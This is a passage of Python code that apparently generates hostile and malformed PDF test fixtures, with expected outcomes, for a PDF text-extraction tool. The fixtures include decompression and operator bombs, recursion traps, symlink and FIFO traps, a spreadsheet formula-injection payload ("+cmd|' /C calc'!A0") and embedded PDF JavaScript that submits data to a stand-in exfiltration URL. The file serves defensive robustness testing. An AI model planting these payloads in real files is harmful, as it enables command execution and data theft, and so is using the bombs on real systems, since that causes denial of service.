            READABLE, None,
            "50 KB of random bytes inserted in the middle of a valid 2-page report (inside a font "
            "stream): every offset after them is wrong. PDFium, qpdf and pdfminer all rebuild the xref "
            "by scanning and read both pages, so the text must be read.")
        add("huge-length.pdf", _huge_length_document(), ANY, "corrupt|damaged|length|could not|invalid",
            "A text page whose content stream declares /Length 1000000000 (the data is 800 bytes): a "
            "reader trusting it allocates or reads a gigabyte or runs past the end of the file. Readers "
            "should find 'endstream' instead (ok/partial); failed must say corrupt/length.")
        add("truncated-30.pdf", sample_bytes[:int(len(sample_bytes) * TRUNCATE_AT)],
            frozenset({"partial", "failed"}), "truncated",
            "The sample report cut off after 30 % of its bytes (an interrupted download): no xref, no "
            "%%EOF, most pages missing. Failed as truncated, or partial with the recovered pages and "
            "a warning that says truncated.")
        xref_base = extract([18, 19], "xref offsets wrong")
        add("xref-wrong.pdf", _wrong_xref(xref_base, _rng("xref")), READABLE, None,
            "A valid 2-page report whose xref table gives a wrong offset for every object: readers "
            "that trust it read garbage; every mainstream reader (PDFium, qpdf, pdfminer's fallback) "
            "rebuilds the table by scanning for 'N 0 obj', so the text must be read.")
        add("html-after-header.pdf",
            b"%PDF-1.4\n<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head><body>"
            b"<h1>Not Found</h1><p>The requested report was not found on this server.</p></body></html>\n",
            FAILED, "corrupt|not a pdf|html|could not",
            "A '%PDF-' header followed by an HTML error page (a download proxy's 404): passes a "
            "magic-number check, then has no objects at all.")
        add("zip-archive.pdf", _zip_bytes(), FAILED, "not a pdf",
            "A ZIP archive (a .docx) named .pdf: must be refused by content, not by extension.")
        add("10000-pages.pdf", _many_pages_document(), FAILED, "too many pages",
            "10 000 blank pages in a 1 MB file: the default --max-pages 500 must refuse it before any "
            "page is parsed.")
        add("page-tree-cycle.pdf", _page_tree_cycle_document(), ANY,
            "page tree|cycle|loop|recurs|corrupt|damaged|could not",
            "A page tree whose second kid is a /Pages node with /Kids pointing back at its parent: "
            "a walker without a visited set recurses forever. Page 1 is a real text page: ok/partial "
            "if it is read, else failed saying the page tree is broken.")
        add("nested-arrays.pdf", _nested_arrays_document(), ANY, "nest|depth|recurs|corrupt|damaged|could not",
            "A content stream with an array nested 100 000 levels deep: stack overflow in recursive "
            "parsers (a segfault kills the worker), RecursionError in Python. ok/partial if the text "
            "around it is read; failed must name the problem, not crash the batch.")
        add("objstm-self-reference.pdf", _objstm_self_reference_document(), ANY,
            "corrupt|damaged|object stream|loop|recurs|could not",
            "An object stream listed (by the xref stream) as stored inside itself, with /Extends "
            "pointing to itself: infinite recursion in a reader without a loop guard. The objects are "
            "also written plainly, so ok/partial by scanning is possible.")

        # --- resource bombs ---------------------------------------------------------------------
        add("operator-bomb.pdf", _operator_bomb_document(), ANY,
            "memory|allocat|time limit|timed out|too many|operators",
            "140 KB file; its content stream inflates to 140 MB: ten million 'm l S' path operators. "
            "A layout engine building an object per path needs gigabytes and minutes: failed with a "
            "memory or time reason, or ok/partial if the reader skips or caps the graphics.")
        add("flate-bomb.pdf", _flate_bomb_document(), ANY,
            "memory|allocat|time limit|timed out|too large|decompress|inflate|bomb",
            "5 MB file; its content stream inflates to 5 GiB (text, then spaces): reading it into "
            "memory needs 5+ GiB. Failed with a memory/time/size reason, or ok/partial if inflation "
            "is capped and the text read.")
        add("huge-image.pdf", _huge_image_document(), ANY, "memory|allocat|image|time limit|timed out|too large",
            "A text page drawing an image that declares 100 000 × 100 000 RGB pixels (30 GB) with 300 KB "
            "of data: a renderer (OCR, review images) allocates the declared size. Text readers should "
            "give ok/partial; failed must say memory/image/time.")

        # --- content tricks -----------------------------------------------------------------------
        add("formula-injection.pdf", _formula_document(), READABLE, None,
            "An English report page whose title and paragraphs begin with '=HYPERLINK(…)', "
            "\"+cmd|' /C calc'!A0\", '@SUM(1+1)', '-2+3…', '=1+1'; also in /Title, /Author, /Subject. "
            "Must be read (ok); evidence.xlsx must hold these as text, never as formulas, and CSV cells "
            "should be neutralised (leading quote) or at least quoted.")
        add("odd-unicode.pdf", _odd_unicode_document(), READABLE, None,
            "Text whose ToUnicode maps glyphs to lone surrogates, NUL, ESC, BEL, U+FFFD, RLO, BOM, "
            "U+FFFF, U+2028, NEL, CR LF, U+10FFFF and an emoji; the /Title has a lone surrogate and "
            "an ANSI escape. Must be read; every output must stay valid UTF-8/XML (surrogates and "
            "control characters dropped or replaced), reasons must stay one line.")
        pdf = _extract(src, [15], "javascript")
        js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pikepdf.String(
            "app.alert('hostile'); this.submitForm('http://example.invalid/exfiltrate');")))
        pdf.Root.OpenAction = js
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("init"), js])))
        pdf.pages[0].obj.AA = Dictionary(O=js)
        add("javascript.pdf", _save(pdf), READABLE, None,
            "A valid report with a JavaScript /OpenAction, a document-level script and a page-open "
            "action: we never execute it, so it must be read like any other report (ok).")
        add("encrypted-empty-password.pdf",
            _encrypt(extract([16], "encrypted, empty password"), "", "owner-secret", "enc-empty"),
            READABLE, None,
            "AES-256 (R6) encryption with an empty user password, as many producers write to set "
            "permissions: readable without asking anyone, so it must be read (ok or partial).")
        add("encrypted-user-password.pdf",
            _encrypt(extract([17], "encrypted, user password"), USER_PASSWORD, "owner-secret", "enc-user"),
            FAILED, "encrypted",
            "AES-256 (R6) encryption with a user password: cannot be read without it; failed, "
            "saying encrypted (passwords are not guessed).")

        # --- special files ------------------------------------------------------------------------
        add("empty.pdf", b"", FAILED, "empty", "A zero-byte file (a failed download).")
        unreadable = "unreadable.pdf"
        _write(dest, unreadable, extract([22], "unreadable"))
        os.chmod(_path(dest, unreadable), 0)
        if os.access(_path(dest, unreadable), os.R_OK):  # root (CAP_DAC_OVERRIDE) reads it anyway
            expect[unreadable] = Expect(READABLE, None, "A valid report with mode 000; this process can still "
                                        "read it (root), so it must be read.")
        else:
            expect[unreadable] = Expect(FAILED, "permission", "A valid report with mode 000: failed, saying "
                                        "permission denied (not a traceback, and the batch goes on).")
        if hasattr(os, "mkfifo"):
            _unlink(_path(dest, "pipe.pdf"))
            os.mkfifo(_path(dest, "pipe.pdf"))
            expect["pipe.pdf"] = Expect(FAILED, "fifo|not a regular file|special file",
                                        "A FIFO named .pdf: open() blocks until a writer appears, so a "
                                        "batch that opens it hangs forever. Must be refused from stat(), "
                                        "without opening it.")
        if hasattr(os, "symlink"):
            links = {
                "dangling.pdf": ("does-not-exist.pdf", FAILED, "link|not found|no such file|broken",
                                 "A symlink to a file that does not exist."),
                "loop.pdf": ("loop2.pdf", FAILED, "link|loop",
                             "A symlink loop loop.pdf → loop2.pdf → loop.pdf: stat() fails with ELOOP; "
                             "Path.resolve() raises RuntimeError on Python < 3.13."),
                "loop2.pdf": ("loop.pdf", FAILED, "link|loop", "The other half of the loop.pdf symlink loop."),
                "zero.pdf": ("/dev/zero", FAILED, "not a regular file|device|special file|link",
                             "A symlink to /dev/zero: reading (or hashing) it never ends and fills "
                             "memory. Must be refused from stat(), without reading it."),
                "dir.pdf": (".", FAILED, "directory|not a regular file|link",
                            "A symlink to its own folder, named .pdf: a folder scan that follows links "
                            "recurses forever (dir.pdf/dir.pdf/…). Listing it as failed is best; "
                            "silently skipping it is tolerable."),
            }
            for name, (target, statuses, reason, note) in links.items():
                path = _path(dest, name)
                _unlink(path)
                os.symlink(os.fsencode(target), path)
                expect[name] = Expect(statuses, reason, note)
    finally:
        src.close()
    return expect


def is_regular(dest: Path, name: str | bytes) -> bool:
    """True when ``name`` in ``dest`` is a regular file itself (not a link, FIFO or device)."""
    return stat.S_ISREG(os.lstat(_path(dest, name)).st_mode)


def path_of(dest: Path, name: str | bytes) -> bytes:
    """The bytes path of a generated file (works for names that are not UTF-8)."""
    return _path(dest, name)
